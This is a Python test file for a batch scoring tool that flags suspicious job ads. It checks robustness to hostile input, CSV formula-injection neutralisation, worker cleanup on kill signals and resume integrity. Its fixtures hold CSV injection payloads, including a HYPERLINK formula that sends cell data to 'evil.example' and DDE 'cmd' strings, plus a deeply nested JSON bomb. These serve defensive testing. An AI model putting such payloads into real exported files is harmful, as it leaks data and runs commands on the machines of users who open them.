"""`waspada score` under hostile input and hostile operating conditions.

* Every row's failure is that row's error, whatever the exception.
* CSV cells that a spreadsheet would evaluate are neutralised (``--csv-raw``
  opts out).
* Workers die with their parent, even when it is SIGKILLed.
* ``--resume`` verifies the output against the checkpoint and refuses an
  output that was shortened or changed; the state is written atomically and
  fsynced.

The random kill-and-resume test is ``test_batch_faults.py``.
"""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from service.batch import ScoreRun, _Stopped, execute, score_partition
from service.batch_csv import FORMULA_TRIGGERS
from service.batch_resume import STATE_SUFFIX
from service.batch_rows import BatchInputError, Chunk
from service.batch_scoring import ScoreConfig, cached_detector, score_chunk

PROJECT_ROOT = Path(__file__).resolve().parents[2]

TEXTS = [
    "Admin online Kamboja, gaji 20 juta, tiket dan visa ditanggung, tanpa "
    "pengalaman. Hubungi Telegram @hrd_cepat",
    "Staf akuntansi PT Sinar Jaya, Surabaya. Minimal S1, pengalaman 2 tahun, "
    "kirim CV lewat portal karir.",
    "Customer service Myanmar, free flight and housing, $2000/month, passport "
    "only, no experience needed. WA +855 12 345 678",
    "Guru bahasa Inggris paruh waktu di Yogyakarta, jadwal sore, honor per jam.",
]


def make_ads(n: int) -> list[dict[str, Any]]:
    return [
        {"id": f"ad-{i}", "text": f"{TEXTS[i % len(TEXTS)]} (ref {i})"}
        for i in range(n)
    ]


def jsonl(rows: list[dict[str, Any]]) -> bytes:
    return b"".join(json.dumps(row).encode() + b"\n" for row in rows)


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text("utf-8").splitlines()]


def code_of(row: dict[str, Any]) -> str | None:
    return row["error"].split(":", 1)[0] if row["error"] else None


@pytest.fixture(scope="module")
def model(tiny_model_dir: Path) -> str:
    return str(tiny_model_dir)


def score(model: str, input: Path, output: Path, **options: Any) -> dict[str, Any]:
    options.setdefault("workers", 1)
    options.setdefault("quiet", True)
    return execute(
        ScoreRun(input=str(input), output=str(output), model=model, **options)
    )


def waspada_command() -> list[str]:
    script = Path(sys.executable).with_name("waspada")
    return [str(script)] if script.exists() else [sys.executable, "-m", "service.cli"]


def waspada(*args: str, timeout: float = 120) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [*waspada_command(), *args],
        capture_output=True,
        timeout=timeout,
        cwd=PROJECT_ROOT,
    )


# --- every row's failure is that row's error ---------------------------------------

DEEP = b'{"id": "deep", "text": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"


@pytest.mark.parametrize("workers", [1, 2])
def test_a_deeply_nested_line_is_that_rows_error(
    model: str, tmp_path: Path, workers: int
) -> None:
    # json.loads raises RecursionError on it, which used to end the run.
    source = tmp_path / "in.jsonl"
    ads = make_ads(6)
    source.write_bytes(jsonl(ads[:3]) + DEEP + b"\n" + jsonl(ads[3:]))
    output = tmp_path / "out.jsonl"
    summary = score(model, source, output, workers=workers, chunk_size=2)
    rows = read_jsonl(output)
    assert [code_of(row) for row in rows] == [None] * 3 + ["NESTED_TOO_DEEP"] + [
        None
    ] * 3
    assert [row["id"] for row in rows[:3] + rows[4:]] == [ad["id"] for ad in ads]
    assert "input row 4" in rows[3]["error"]
    assert summary["errors_by_code"] == {"NESTED_TOO_DEEP": 1}


def test_resume_passes_a_row_that_failed(model: str, tmp_path: Path) -> None:
    # The deep row comes after the stop: the resumed run must get past it
    # (it used to fail on it again on every --resume).
    ads = make_ads(30)
    source = tmp_path / "in.jsonl"
    source.write_bytes(jsonl(ads[:20]) + DEEP + b"\n" + jsonl(ads[20:]))
    output = tmp_path / "out.jsonl"
    with pytest.raises(_Stopped):
        score(model, source, output, chunk_size=4, stop_after=8)
    summary = score(model, source, output, chunk_size=4, resume=True)
    rows = read_jsonl(output)
    assert len(rows) == 31 == summary["rows"]
    assert code_of(rows[20]) == "NESTED_TOO_DEEP"
    assert [row["id"] for row in rows[:20] + rows[21:]] == [ad["id"] for ad in ads]


def test_a_value_that_cannot_be_printed_is_that_rows_error(model: str) -> None:
    # An int too long for str() (ValueError, not the TypeError of a nested
    # value) in a pandas partition used to fail the whole partition.
    import pandas as pd

    frame = pd.DataFrame(
        {
            "id": pd.Series(["a", 10**5000, "c"], dtype=object),
            "text": [TEXTS[0], TEXTS[1], TEXTS[2]],
        }
    )
    out = score_partition(frame, model)
    assert list(out["id"].isna()) == [False, True, False]
    assert list(out["error"].isna()) == [True, False, True]
    errors = list(out["error"])
    assert errors[1].startswith("INVALID_FIELD: 'id' cannot be read (ValueError")
    assert len(errors[1]) < 400  # the message does not quote the 5,000 digits


@pytest.mark.parametrize(
    ("kind", "raw"),
    [
        ("records", 42),  # not a mapping
        ("records", None),
        ("jsonl", 3.5),  # not bytes
        ("csv", 42),  # not a list of cells
    ],
)
def test_a_row_no_parser_expects_is_that_rows_error(
    model: str, kind: str, raw: Any
) -> None:
    good = {
        "records": {"id": "ok", "text": TEXTS[0]},
        "jsonl": json.dumps({"id": "ok", "text": TEXTS[0]}).encode(),
        "csv": ["ok", TEXTS[0]],
    }[kind]
    chunk = Chunk(kind, 10, [good, raw, good], header=("id", "text"))
    detector = cached_detector(model)
    rows = score_chunk(detector, chunk, ScoreConfig(model))
    assert [row.id for row in rows] == ["ok", None, "ok"]
    assert rows[0].error is None and rows[2].error is None
    assert rows[1].error is not None
    assert rows[1].error.startswith("BAD_ROW: could not read the row (")
    assert rows[1].error.endswith("(input row 12)")


# --- CSV injection -----------------------------------------------------------------

HOSTILE_IDS: list[tuple[str, str]] = [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', "'"),
    ("+cmd|' /C calc'!A0", "'"),
    ("-2+3+cmd|' /C calc'!A0", "'"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'"),
    ("\t=1+1", "'"),
    ("\r=1+1", "'"),
    ("-5", ""),  # a plain number is not a formula
    ("+62.5e3", ""),
    ("job-=1", ""),  # only the first character matters
    ("ad 7", ""),
    ("cr\rinside", ""),  # a bare CR must be quoted, or the row splits in two
    ('lf\n"quoted", inside', ""),
]


def csv_cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("explain", [False, True])
def test_csv_output_neutralises_formula_cells(
    model: str, tmp_path: Path, explain: bool
) -> None:
    rows = [
        {"id": hostile, "text": TEXTS[i % len(TEXTS)]}
        for i, (hostile, _) in enumerate(HOSTILE_IDS)
    ]
    source = tmp_path / "in.jsonl"
    source.write_bytes(jsonl(rows) + b'{"text": "no id"}\n')
    output = tmp_path / "out.csv"
    score(model, source, output, explain=explain)
    cells = csv_cells(output)
    assert [cell["id"] for cell in cells[:-1]] == [
        prefix + hostile for hostile, prefix in HOSTILE_IDS
    ]
    # No text cell anywhere starts a formula; numbers stay numbers.
    for cell in cells:
        for column, value in cell.items():
            if column in {"score", "document_type_probability"}:
                assert value == "" or 0.0 <= float(value) <= 1.0
            elif value.startswith(FORMULA_TRIGGERS):
                assert value in {"-5", "+62.5e3"}, (column, value)
    assert all(cell["score"] for cell in cells[:-1])


def test_csv_raw_keeps_cells_verbatim(model: str, tmp_path: Path) -> None:
    rows = [{"id": hostile, "text": TEXTS[0]} for hostile, _ in HOSTILE_IDS]
    source = tmp_path / "in.jsonl"
    source.write_bytes(jsonl(rows))
    output = tmp_path / "out.csv"
    done = waspada(
        "score",
        str(source),
        "-o",
        str(output),
        "--model",
        model,
        "--workers",
        "1",
        "--quiet",
        "--csv-raw",
    )
    assert done.returncode == 0, done.stderr.decode()
    assert [cell["id"] for cell in csv_cells(output)] == [h for h, _ in HOSTILE_IDS]


def test_jsonl_and_parquet_are_never_altered(model: str, tmp_path: Path) -> None:
    rows = [{"id": hostile, "text": TEXTS[0]} for hostile, _ in HOSTILE_IDS]
    source = tmp_path / "in.jsonl"
    source.write_bytes(jsonl(rows))
    score(model, source, tmp_path / "out.jsonl")
    score(model, source, tmp_path / "out.parquet")
    expected = [h for h, _ in HOSTILE_IDS]
    assert [row["id"] for row in read_jsonl(tmp_path / "out.jsonl")] == expected
    assert pq.read_table(tmp_path / "out.parquet")["id"].to_pylist() == expected


def test_resume_refuses_a_different_csv_mode(model: str, tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    source.write_bytes(jsonl(make_ads(20)))
    output = tmp_path / "out.csv"
    with pytest.raises(_Stopped):
        score(model, source, output, chunk_size=4, stop_after=4)
    with pytest.raises(BatchInputError) as error:
        score(model, source, output, chunk_size=4, resume=True, csv_raw=True)
    assert error.value.code == "RESUME_MISMATCH"


# --- workers die with their parent ---------------------------------------------------


def children(pid: int) -> set[int]:
    found: set[int] = set()
    try:
        tasks = os.listdir(f"/proc/{pid}/task")
    except FileNotFoundError:
        return found
    for task in tasks:
        try:
            text = Path(f"/proc/{pid}/task/{task}/children").read_text()
        except OSError:
            continue
        found.update(int(child) for child in text.split())
    return found


def alive(pid: int) -> bool:
    """Running (a zombie waiting for a reaper is dead)."""
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return False
    return stat.rsplit(")", 1)[1].split()[0] not in {"Z", "X"}


def wait_gone(pids: set[int], seconds: float = 20) -> set[int]:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        left = {pid for pid in pids if alive(pid)}
        if not left:
            return left
        time.sleep(0.1)
    return {pid for pid in pids if alive(pid)}


def start_and_wait_for_workers(
    model: str, tmp_path: Path, workers: int
) -> tuple[subprocess.Popen[bytes], set[int], Path, list[str]]:
    source = tmp_path / "in.jsonl"
    source.write_bytes(jsonl(make_ads(20_000)))  # minutes of work on 2 cores
    output = tmp_path / "out.jsonl"
    args = [
        "score",
        str(source),
        "-o",
        str(output),
        "--model",
        model,
        "--workers",
        str(workers),
        "--chunk-size",
        "10",
        "--quiet",
    ]
    process = subprocess.Popen(
        [*waspada_command(), *args], cwd=PROJECT_ROOT, stderr=subprocess.PIPE
    )
    state = Path(str(output) + STATE_SUFFIX)
    deadline = time.monotonic() + 120
    workers_seen: set[int] = set()
    while time.monotonic() < deadline and process.poll() is None:
        workers_seen = {pid for pid in children(process.pid) if alive(pid)}
        if len(workers_seen) >= workers and state.exists():
            break
        time.sleep(0.05)
    if process.poll() is not None:
        process.kill()
        pytest.fail(f"the run ended early: {process.stderr.read().decode()}")
    assert len(workers_seen) == workers, workers_seen
    return process, workers_seen, output, args


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_workers_die_when_the_parent_is_sigkilled(model: str, tmp_path: Path):
    process, workers, _, _ = start_and_wait_for_workers(model, tmp_path, 2)
    os.kill(process.pid, signal.SIGKILL)
    process.wait()
    left = wait_gone(workers)
    reap(left)
    assert not left, f"workers {left} outlived their SIGKILLed parent"


def reap(pids: set[int]) -> None:
    """Kill what a failing test left running, so it does not burn the CPUs."""
    for pid in pids:
        if alive(pid):
            os.kill(pid, signal.SIGKILL)


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_sigterm_stops_cleanly_and_resumes(model: str, tmp_path: Path) -> None:
    process, workers, output, _ = start_and_wait_for_workers(model, tmp_path, 2)
    os.kill(process.pid, signal.SIGTERM)
    try:
        # Orphaned workers would hold stderr open: communicate would time out.
        _, stderr = process.communicate(timeout=60)
    finally:
        left = wait_gone(workers)
        reap(left)
    assert process.returncode == 143, stderr.decode()
    assert "--resume" in stderr.decode()
    assert not left
    state = json.loads(Path(str(output) + STATE_SUFFIX).read_text())
    assert state["rows_in"] > 0
    # What is there is whole rows up to the checkpoint, at least.
    assert output.stat().st_size >= state["writer"]["out_bytes"]


# --- resume verifies the output ------------------------------------------------------


def stopped_run(model: str, tmp_path: Path, ext: str, **options: Any) -> Path:
    source = tmp_path / "in.jsonl"
    source.write_bytes(jsonl(make_ads(40)))
    output = tmp_path / f"out{ext}"
    with pytest.raises(_Stopped):
        score(model, source, output, chunk_size=5, stop_after=25, **options)
    return output


def shorten(path: Path) -> None:
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])


def flip_a_byte(path: Path) -> None:
    data = bytearray(path.read_bytes())
    middle = len(data) // 2
    data[middle] = ord("X") if data[middle] != ord("X") else ord("Y")
    path.write_bytes(bytes(data))


def replace_with_another_run(path: Path) -> None:
    # The same length, other rows: only the hash can tell.
    data = path.read_bytes()
    path.write_bytes(data.replace(b'"ad-1"', b'"ad-7"').replace(b"ad-1,", b"ad-7,"))


@pytest.mark.parametrize("ext", [".jsonl", ".csv"])
@pytest.mark.parametrize(
    "damage",
    [shorten, flip_a_byte, replace_with_another_run, Path.unlink],
    ids=["shortened", "byte changed", "other rows", "deleted"],
)
def test_resume_refuses_a_changed_output(
    model: str, tmp_path: Path, ext: str, damage: Any
) -> None:
    output = stopped_run(model, tmp_path, ext)
    damage(output)
    before = output.read_bytes() if output.exists() else None
    with pytest.raises(BatchInputError) as error:
        score(model, tmp_path / "in.jsonl", output, chunk_size=5, resume=True)
    assert error.value.code == "RESUME_OUTPUT_CHANGED"
    assert "--resume" in error.value.message
    # Refused before touching anything: not padded, not truncated.
    assert (output.read_bytes() if output.exists() else None) == before
    assert Path(str(output) + STATE_SUFFIX).exists()


def test_resume_refusal_on_the_command_line(model: str, tmp_path: Path) -> None:
    output = stopped_run(model, tmp_path, ".jsonl")
    shorten(output)
    done = waspada(
        "score",
        str(tmp_path / "in.jsonl"),
        "-o",
        str(output),
        "--model",
        model,
        "--workers",
        "1",
        "--chunk-size",
        "5",
        "--resume",
    )
    stderr = done.stderr.decode()
    assert done.returncode == 2, stderr
    assert stderr.startswith("error [RESUME_OUTPUT_CHANGED]")
    assert stderr.count("\n") == 1 and "\x00" not in output.read_text("latin-1")


def other_parquet(path: Path) -> None:
    table = pq.read_table(path)
    ids = pa.array([f"x{i}" for i in range(table.num_rows)], pa.string())
    pq.write_table(table.set_column(0, "id", ids), path)


@pytest.mark.parametrize(
    "damage", [Path.unlink, other_parquet], ids=["part deleted", "part rewritten"]
)
def test_resume_refuses_changed_parquet_parts(
    model: str, tmp_path: Path, damage: Any
) -> None:
    output = stopped_run(model, tmp_path, ".parquet", part_rows=10)
    state = json.loads(Path(str(output) + STATE_SUFFIX).read_text())
    parts = state["writer"]["parts"]
    assert len(parts) >= 2
    parts_dir = Path(str(output) + ".parts")
    damage(parts_dir / parts[1]["name"])
    listing = sorted(p.name for p in parts_dir.iterdir())
    with pytest.raises(BatchInputError) as error:
        score(model, tmp_path / "in.jsonl", output, chunk_size=5, resume=True)
    assert error.value.code == "RESUME_OUTPUT_CHANGED"
    assert sorted(p.name for p in parts_dir.iterdir()) == listing


def test_resume_still_continues_an_intact_output(model: str, tmp_path: Path) -> None:
    output = stopped_run(model, tmp_path, ".csv")
    with output.open("ab") as handle:
        handle.write(b"ad-99,0.5,lo")  # half a row after the checkpoint
    summary = score(model, tmp_path / "in.jsonl", output, chunk_size=5, resume=True)
    reference = tmp_path / "reference.csv"
    score(model, tmp_path / "in.jsonl", reference, chunk_size=5)
    assert output.read_bytes() == reference.read_bytes()
    assert summary["resumed_from_row"] >= 25


# --- the state file is written atomically and durably --------------------------------


def test_state_is_fsynced_then_renamed_then_its_folder_fsynced(
    model: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    events: list[tuple[str, str]] = []
    real_fsync, real_replace = os.fsync, os.replace

    def fsync(fd: int) -> None:
        events.append(("fsync", os.readlink(f"/proc/self/fd/{fd}")))
        real_fsync(fd)

    def replace(src: Any, dst: Any) -> None:
        events.append(("replace", f"{src} -> {dst}"))
        real_replace(src, dst)

    monkeypatch.setattr(os, "fsync", fsync)
    monkeypatch.setattr(os, "replace", replace)
    output = stopped_run(model, tmp_path, ".jsonl")
    state = str(output) + STATE_SUFFIX
    tmp = state + ".tmp"
    renames = [i for i, e in enumerate(events) if e == ("replace", f"{tmp} -> {state}")]
    assert len(renames) >= 3  # one per committed chunk
    for i in renames:
        # The output is durable before the state that points into it, the
        # state's bytes before the rename, and the rename after it.
        assert events[i - 2] == ("fsync", os.path.realpath(output))
        assert events[i - 1] == ("fsync", os.path.realpath(tmp))
        assert events[i + 1] == ("fsync", os.path.realpath(tmp_path))
    json.loads(Path(state).read_text())


def test_a_torn_temporary_state_file_is_ignored(model: str, tmp_path: Path) -> None:
    output = stopped_run(model, tmp_path, ".jsonl")
    # A kill in the middle of writing the next state leaves this behind.
    Path(str(output) + STATE_SUFFIX + ".tmp").write_bytes(b'{"rows_in": 4')
    summary = score(model, tmp_path / "in.jsonl", output, chunk_size=5, resume=True)
    assert summary["rows"] == 40
    assert [row["id"] for row in read_jsonl(output)] == [f"ad-{i}" for i in range(40)]
